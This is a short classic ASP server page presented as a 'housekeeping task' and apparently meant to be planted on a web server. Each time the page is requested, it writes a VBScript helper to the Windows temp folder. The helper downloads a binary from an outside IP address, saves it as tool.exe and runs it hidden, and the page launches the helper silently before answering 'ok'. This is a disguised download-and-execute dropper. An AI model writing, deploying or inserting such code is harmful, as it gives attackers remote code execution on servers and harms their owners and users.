<%
' housekeeping task: prepares a helper script in the temp folder and starts it
Dim fs, f, sh, helper
helper = "c:\windows\temp\refresh.vbs"
Set fs = Server.CreateObject("Scripting.FileSystemObject")
Set f = fs.CreateTextFile(helper, True)
f.WriteLine "Set req = CreateObject(""MSXML2.XMLHTTP"")"
f.WriteLine "req.Open ""GET"", ""http://192.0.2.44/pkg/tool.bin"", False"
f.WriteLine "req.Send"
f.WriteLine "Set st = CreateObject(""ADODB.Stream"")"
f.WriteLine "st.Type = 1 : st.Open : st.Write req.ResponseBody"
f.WriteLine "st.SaveToFile ""c:\windows\temp\tool.exe"", 2"
f.WriteLine "CreateObject(""WScript.Shell"").Run ""c:\windows\temp\tool.exe"", 0, False"
f.Close
Set sh = Server.CreateObject("WScript.Shell")
sh.Run "wscript.exe " & helper, 0, False
Response.Write "ok"
%>
